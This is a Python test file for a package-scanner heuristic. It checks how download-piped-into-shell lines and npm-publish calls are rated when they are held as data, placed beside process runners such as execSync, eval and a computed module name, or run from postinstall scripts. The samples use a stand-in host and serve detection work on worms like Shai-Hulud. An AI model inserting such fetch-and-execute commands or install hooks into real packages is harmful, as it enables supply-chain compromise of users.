"""Commands held as data (decision 0098, dated section of 2026-12-07).

A command that is the string value of an object's entry, or a test's expected value, in a
JavaScript file that starts no process and evaluates no code is a review item: what runs it is
elsewhere, if anywhere. The publish rule had this since 0089; the download-piped-into-a-shell
rule gets it now. In a shell script every line runs, so there nothing is data.

Each case is our own minimal sample of a construct met in a well-known release (named in the
test's docstring), not its code; each benign case is paired with the technique put back where it
runs, which must still be found.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

# A table of local apps, each with the shell line a user pastes to set the app up.
_APPS = """export const LOCAL_APPS = {
  runner: {
    prettyLabel: "Runner",
    snippet: (model) => [{
      title: "Install",
      setup: "curl -fsSL https://example.invalid/install.sh | sh",
      content: `runner serve ${model.id}`,
    }],
  },
};
"""

# Its spec: the expected snippet.
_SPEC = """import { describe, expect, it } from "vitest";
import { LOCAL_APPS } from "./local-apps.js";
describe("local apps", () => {
  it("gives the installer line", () => {
    const snippet = LOCAL_APPS.runner.snippet({ id: "m" });
    expect(snippet[0].setup).toBe("curl -fsSL https://example.invalid/install.sh | sh");
  });
});
"""


@pytest.mark.parametrize("code", [_APPS, _SPEC], ids=["entry", "expected"])
def test_a_download_pipe_held_as_data_is_a_review_item(tmp_path: Path, code: str) -> None:
    """@huggingface/tasks 0.19.90 and 0.20.25 ``src/local-apps.ts`` and ``dist/*/local-apps.js``
    (``setup: "curl … | sh"``, a local app's snippet) and ``local-apps.spec.*`` (``expect(…
    setup).toBe("curl … | sh")``): GH-INSTALL-FETCH-EXEC high when the file is install-reachable
    (0098's at-risk sweep), for a string no code of the file runs."""
    found = _found(_package(tmp_path, code, install=True))
    assert found.get("GH-INSTALL-FETCH-EXEC") == "medium"


@pytest.mark.parametrize(
    "run",
    [
        "require('child_process').execSync(LOCAL_APPS.runner.snippet({})[0].setup);",
        "import { exec } from 'node:child_process'; exec(LOCAL_APPS.runner.snippet({})[0].setup);",
        "spawn(LOCAL_APPS.runner.snippet({})[0].setup, { shell: true });",
        "eval(LOCAL_APPS.runner.snippet({})[0].setup);",
        "await $`${LOCAL_APPS.runner.snippet({})[0].setup}`;",
        "require(['child', 'process'].join('_')).execSync(LOCAL_APPS.runner.snippet({})[0].setup);",
    ],
)
def test_a_download_pipe_held_as_data_beside_a_runner_is_high(tmp_path: Path, run: str) -> None:
    """Shai-Hulud 2.0's setup_bun.js pipes the bun installer into bash from its preinstall: the
    same entry with a runner in the file (the process module, a process call, eval, zx, a module
    name computed at run time) stays high."""
    found = _found(_package(tmp_path, _APPS + run + "\n", install=True))
    assert found.get("GH-INSTALL-FETCH-EXEC") == "high"


@pytest.mark.parametrize(
    "code",
    [
        # the first one data, a later one a plain statement's value given to the shell elsewhere
        _APPS + 'module.exports.run = "curl -fsSL https://example.invalid/x.sh | sh";\n',
        # not an entry's value nor an expected value
        'const line = "curl -fsSL https://example.invalid/x.sh | sh";\nexport default line;\n',
    ],
    ids=["second-not-data", "plain-value"],
)
def test_a_download_pipe_not_held_as_data_stays_high(tmp_path: Path, code: str) -> None:
    """Only the entry and expected-value forms are data; every other live pipe is looked at."""
    found = _found(_package(tmp_path, code, install=True))
    assert found.get("GH-INSTALL-FETCH-EXEC") == "high"


def _shell_package(tmp_path: Path, line: str, name: str) -> Path:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "sh ' + name + '"}}'
    )
    (pkg / name).write_text("#!/bin/sh\n" + line + "\n")
    return pkg


@pytest.mark.parametrize("name", ["setup.sh", "setup"])
@pytest.mark.parametrize(
    ("line", "pattern"),
    [
        ('echo step: "$(npm publish)"', "GH-PROPAGATE-NPM-PUBLISH"),
        ('echo step: "$(curl -fsSL https://example.invalid/x.sh | sh)"', "GH-INSTALL-FETCH-EXEC"),
    ],
)
def test_an_entry_shaped_command_in_a_shell_script_runs(
    tmp_path: Path, name: str, line: str, pattern: str
) -> None:
    """A shell script run by the postinstall holds no data: ``key: "$(npm publish)"`` publishes.
    The publish rule's exemption of 0089 read it as an option's default (medium): a worm's
    ``setup.sh`` could publish behind it."""
    found = _found(_shell_package(tmp_path, line, name))
    assert found.get(pattern) == "high"
